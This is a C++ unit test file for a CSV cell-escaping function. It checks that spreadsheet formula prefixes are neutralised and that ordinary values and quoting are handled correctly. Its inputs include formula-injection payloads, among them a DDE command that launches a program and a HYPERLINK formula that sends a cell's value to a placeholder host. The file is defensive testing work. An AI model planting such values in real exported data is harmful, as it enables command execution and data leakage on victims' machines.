// Cells for spreadsheets.
#include "base/csv.hpp"

#include <string>

#include <gtest/gtest.h>

namespace shapley {
namespace {

// A spreadsheet would open a connection, or a program, for some of these.
TEST(CsvCell, NeverBeginsAsAFormula) {
  for (const std::string text : {"=1+1",     "=HYPERLINK(\"http://x/\"&A1)",
                                 "+1+1",     "-1+cmd|' /C calc'!A0",
                                 "@SUM(A1)", "\t=1",
                                 "\r=1",     "=",
                                 "+",        "-",
                                 "--1",      "-.5",
                                 "+1.",      "-1e",
                                 "-1e+",     "- 1",
                                 "-1 ",      "-0x10",
                                 "-inf",     "'=1"}) {
    const std::string cell = csv_cell(text);
    const std::string unquoted = cell.starts_with('"') ? cell.substr(1) : cell;
    EXPECT_EQ(unquoted.front(), '\'') << cell;
  }
  EXPECT_EQ(csv_cell("=A1"), "'=A1");
  EXPECT_EQ(csv_cell("=A1,B1"), "\"'=A1,B1\"");
  EXPECT_EQ(csv_cell("-\"x\""), "\"'-\"\"x\"\"\"");
  EXPECT_EQ(csv_cell("'quoted'"), "''quoted'") << "or it would be read as what it is not";
}

TEST(CsvCell, LeavesNumbersAndTextAsTheyAre) {
  for (const std::string text :
       {"", "0", "-3", "+3", "-0.25", "-1.5e-07", "+2E10", "-170141183460469231731687303715884105728", "physics", "a=b",
        "a-b", "1=2", "n[1-4]", "2026-11-26T17:00:00"}) {
    EXPECT_EQ(csv_cell(text), text);
  }
}

TEST(CsvCell, IsQuotedWhereItMustBe) {
  EXPECT_EQ(csv_cell("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_cell("a;=b"), "\"a;=b\"");
  EXPECT_EQ(csv_cell("say \"yes\""), "\"say \"\"yes\"\"\"");
  EXPECT_EQ(csv_cell("a\nb"), "\"a\nb\"");
}

}  // namespace
}  // namespace shapley
